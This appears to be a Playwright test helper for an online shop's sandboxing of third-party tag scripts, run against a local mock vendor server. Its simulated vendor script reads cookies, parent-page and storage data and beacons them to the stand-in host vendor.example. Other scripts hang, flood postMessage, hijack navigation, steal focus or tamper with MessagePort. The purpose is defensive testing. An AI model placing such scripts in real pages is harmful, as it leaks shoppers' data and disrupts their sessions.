import fs from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import os from 'node:os'
import path from 'node:path'
import type { BrowserContext, Page } from '@playwright/test'
import { Tags } from '#app/static/serve/tags.ts'
import { parseTag, type TagName } from '#commerce/contract/tags.ts'

/** Scripts of others as a test has them: a server of vendors, and the shop's own frames with these settings. */

export const PRODUCT = '/loja/produto/air-fryer-voltena-crosta-5-5-litros-branca'
/** A vendor's script tells its server what it can reach and what it hears, at once, as a tag manager does. */
const VENDOR = `(function(){
var where={};try{where.cookie=document.cookie}catch(e){where.cookie='out of reach'}
try{where.page=parent.document.title}catch(e){where.page='out of reach'}
try{where.storage=localStorage.length}catch(e){where.storage='out of reach'}
function send(what){new Image().src='ORIGIN/heard?'+encodeURIComponent(JSON.stringify(what))}
send({where:where,sku:shop.sku,device:!!shop.deviceId});
function take(e){send(e[0]==='consent'?{consent:e[1]+' '+e[2].analytics_storage}:{event:e.event,first:e.ecommerce&&e.ecommerce.items&&e.ecommerce.items[0]&&e.ecommerce.items[0].item_id})}
dataLayer.forEach(take);var push=dataLayer.push;dataLayer.push=function(){[].forEach.call(arguments,take);return push.apply(this,arguments)}})()`

/** What goes wrong, by the name of its script. */
const FAULTY: Readonly<Record<string, string>> = {
  'throws.js': 'for(let n=0;n<9;n++)setTimeout(()=>{throw new Error("vendor")});',
  'large.js': `//${'x'.repeat(600 * 1024)}`,
  'hangs.js': 'const until=Date.now()+4000;while(Date.now()<until);',
  'never-ends.js': 'setTimeout(()=>{for(;;);})',
  'floods.js': "setInterval(()=>{for(let n=0;n<200;n++)parent.postMessage('x'.repeat(999),'*')},20)",
  'leaves.js': "document.body.style.height='900px';setTimeout(()=>location.href='ORIGIN/elsewhere',500)",
  'takes-focus.js': `document.body.style.height='300px';var field=document.createElement('input');document.body.append(field);
setInterval(()=>{field.focus();window.focus()},100)`,
  'pulls.js': `document.body.style.height='1500px';setInterval(()=>document.body.scrollIntoView(),50);
for(let n=0;n<9;n++)history.pushState(0,'');window.open('ORIGIN/window');
var link=document.createElement('a');link.href='ORIGIN/window';link.target='_blank';link.click();document.body.append(link);link.click();
setTimeout(()=>new Image().src='ORIGIN/pulled',1000)`,
  'fills.js': "setInterval(()=>location.hash='n'+Math.random(),5000);location.hash='n'",
  // Our own port, taken as we use it, and words of no form.
  'lies.js': `var say=MessagePort.prototype.postMessage;MessagePort.prototype.postMessage=function(word){
for(const lie of [null,'x',[],[{}],['height',{}],['threw'],['threw'],['over',{}]])say.call(this,lie);return say.call(this,word)}`,
}

/** Each time another of these, one after the other. */
export const IN_TURN = 'in-turn.js'
const TURNS = ['never-ends.js', 'throws.js', 'floods.js', 'slow.js', 'hangs.js', 'lies.js'] as const

interface Vendors {
  heard: { [key: string]: unknown }[]
  asked: string[]
  close(): void
}

/** Behind a public name: a browser lets no page of the network at large ask this machine. */
export const ORIGIN = 'https://vendor.example'

export async function openVendors(context: BrowserContext): Promise<Vendors> {
  const heard: Vendors['heard'] = []
  const asked: string[] = []
  let turn = 0
  const server: Server = createServer((request, response) => {
    const [path = '', query = ''] = request.url!.slice(1).split('?')
    const name = path === IN_TURN ? TURNS[turn++ % TURNS.length]! : path
    asked.push(name)
    if (name === 'heard') heard.push(JSON.parse(decodeURIComponent(query)))
    if (name === 'slow.js') return
    const body = (FAULTY[name] ?? VENDOR).replaceAll('ORIGIN', ORIGIN)
    response.writeHead(name === 'heard' ? 204 : 200, {
      'content-type': 'text/javascript',
      'timing-allow-origin': '*',
      'cache-control': 'no-store',
    })
    response.end(name === 'heard' ? undefined : body)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const door = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  await context.route(`${ORIGIN}/**`, async (route) => {
    const { pathname, search } = new URL(route.request().url())
    if (pathname === '/blocked.js') return route.abort()
    await route
      .fetch({ url: door + pathname + search })
      .then((response) => route.fulfill({ response }))
      .catch(() => undefined)
  })
  return {
    heard,
    asked,
    close() {
      server.closeAllConnections()
      server.close()
    },
  }
}

const FRAMES = /\/_tags(?:[/?]|$)/

/** The shop's own service of frames, with these settings; what it logged. */
export async function withTags(context: BrowserContext, urls: Partial<Record<TagName, string>>) {
  const said: string[] = []
  const shopData = fs.mkdtempSync(path.join(os.tmpdir(), 'efacil-tags-e2e-'))
  const tags = new Tags({
    tags: Object.fromEntries(Object.entries(urls).map(([name, url]) => [name, parseTag(url)])),
    budget: { kilobytes: 400, milliseconds: 1_500 },
    shopData,
    tell: (sentence) => said.push(sentence),
  })
  const server = createServer((request, response) => void tags.answers(request, response, request.url!, '10.0.0.1'))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const door = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const answering: Promise<void>[] = []
  const answered: string[] = []
  await context.route(FRAMES, (route) => {
    const { pathname, search } = new URL(route.request().url())
    const answer = route
      .fetch({ url: door + pathname + search })
      .then(async (response) => {
        answered.push(`${pathname} ${response.status()}`)
        await route.fulfill({ response })
      })
      // A page that is left waits for no answer.
      .catch(() => undefined)
    answering.push(answer)
    return answer
  })
  return {
    said,
    answered,
    shopData,
    async close() {
      await context.unroute(FRAMES).catch(() => undefined)
      // What is being answered is answered first: a test that is over takes its answers with it.
      await Promise.allSettled(answering)
      server.close()
      fs.rmSync(shopData, { recursive: true, force: true })
    },
  }
}

/** Once commerce has heard of it: who writes beside it may take the CSRF pair out of its hands (contract §1). */
export async function choose(page: Page, name: 'Rejeitar não essenciais' | 'Continuar'): Promise<void> {
  const told = page.waitForResponse((response) => response.url().includes('/privacy/consents/'))
  await page.getByRole('region', { name: 'Aviso de cookies' }).getByRole('button', { name }).click()
  await told
}
